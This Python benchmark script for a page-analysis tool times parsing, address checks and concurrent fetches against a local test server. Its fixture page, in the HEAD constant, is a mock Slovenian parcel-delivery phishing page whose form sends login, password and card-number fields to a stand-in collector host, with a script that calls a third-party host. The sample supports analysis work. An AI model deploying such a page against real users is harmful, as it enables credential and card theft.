"""Looking at pages without running them: facts of a page, whole looks, and judged addresses a second.

`python -m bench.fetch`: facts are measured in processor time. Pages come from a server of another process on loopback, from 20 hosts as
many requests may run at once. The page is written here: 60 kB, a form, a script, 400 rows.
"""

import asyncio
import multiprocessing
import resource
import time
from datetime import UTC, datetime
from multiprocessing.connection import Connection

from zvon.collect.fetch.client import Client
from zvon.collect.fetch.guard import Guard
from zvon.collect.fetch.lane import Lanes
from zvon.collect.fetch.page import look_at
from zvon.formats.page import read
from zvon.formats.page.favicon import mark
from zvon.model.page import Outcome

HOSTS = [f"127.0.0.{n}" for n in range(1, 21)]
PAGES = 400
HEAD = """<!doctype html><html lang="sl"><head><title>Dostava paketa</title><link rel="icon" href="/i.ico">
<script src="/a.js"></script><link rel="stylesheet" href="/a.css"></head><body><div class="glava">
<form action="https://zbiralec.example/x.php"><label for="u">Uporabniško ime</label><input id="u">
<input type="password"><input autocomplete="cc-number"><button>Prijava</button></form>
<script>var _0x1a2b = navigator.userAgent; fetch("https://tretji.example/a")</script>"""
ROW = """<div class="vrsta col-md-4"><p>Prosimo, preverite svoje podatke: <a href="/p/1">paket</a></p>
<img src="/s/1.png" alt="paket"></div>\n"""
PAGE = (HEAD + ROW * 400 + "</body></html>").encode()
PART = b"var a = 1;" * 2000


def main() -> None:
    reading()
    pipe, theirs = multiprocessing.Pipe()
    server = multiprocessing.Process(target=_serve, args=(theirs,), daemon=True)
    server.start()
    port = int(pipe.recv())
    try:
        asyncio.run(judging())
        asyncio.run(looking(port, parts=False))
        asyncio.run(looking(port, parts=True))
    finally:
        server.terminate()
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    print(f"peak memory {peak} MB")


def reading() -> None:
    """Facts of one page, on one core."""
    read(PAGE, "https://a.example/")
    count, began = 40, time.perf_counter()
    for _ in range(count):
        read(PAGE, "https://a.example/")
    took = time.perf_counter() - began
    print(
        f"facts of a page of {len(PAGE) // 1000} kB: {1000 * took / count:.1f} ms, {count / took:.0f}/s"
    )
    icon, began = bytes(range(256)) * 60, time.perf_counter()
    for _ in range(20):
        mark(icon)
    print(f"mark of a favicon of 15 kB: {50 * (time.perf_counter() - began):.1f} ms")


async def judging() -> None:
    """Names resolved from memory and judged."""

    async def resolve(_: str) -> tuple[str, ...]:
        return ("93.184.216.34", "2606:2800:220:1::1")

    guard, count, began = Guard(resolve=resolve), 20_000, time.perf_counter()
    for n in range(count):
        await guard.judged(f"a{n}.example", 443)
    print(f"judged: {count / (time.perf_counter() - began):,.0f} names/s")


async def looking(port: int, *, parts: bool) -> None:
    """Whole looks: connection, page, facts, and with `parts` icon, script and style."""

    async def resolve(_: str) -> tuple[str, ...]:
        return ()

    guard, lanes = Guard(resolve=resolve, allow={(host, port) for host in HOSTS}), Lanes()
    now = datetime(2026, 11, 22, tzinfo=UTC)

    async def one(n: int) -> float:
        began = time.perf_counter()
        async with Client(guard, lanes=lanes) as client:
            url = f"http://{HOSTS[n % len(HOSTS)]}:{port}/p"
            seen = await look_at(client, url, now, parts=parts)
        assert seen.capture.outcome is Outcome.SEEN
        return time.perf_counter() - began

    alone = await one(0)
    began, busy = time.perf_counter(), time.process_time()
    await asyncio.gather(*(one(n) for n in range(PAGES)))
    took, busy = time.perf_counter() - began, time.process_time() - busy
    what = "with icon, script and style" if parts else "page alone"
    print(f"looks, {what}: {PAGES / took:.0f}/s, one by itself {1000 * alone:.0f} ms, "
          f"{1000 * busy / PAGES:.0f} ms of one core each")  # fmt: skip


def _serve(pipe: Connection) -> None:
    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                page = head.startswith(b"GET /p ")
                body, kind = (PAGE, b"text/html") if page else (PART, b"text/javascript")
                writer.write(
                    b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
                    % (kind, len(body))
                )
                writer.write(body)
                await writer.drain()
        except (asyncio.IncompleteReadError, OSError):
            writer.close()

    async def run() -> None:
        server = await asyncio.start_server(answer, "0.0.0.0", 0)
        pipe.send(server.sockets[0].getsockname()[1])
        await server.serve_forever()

    asyncio.run(run())


if __name__ == "__main__":
    main()
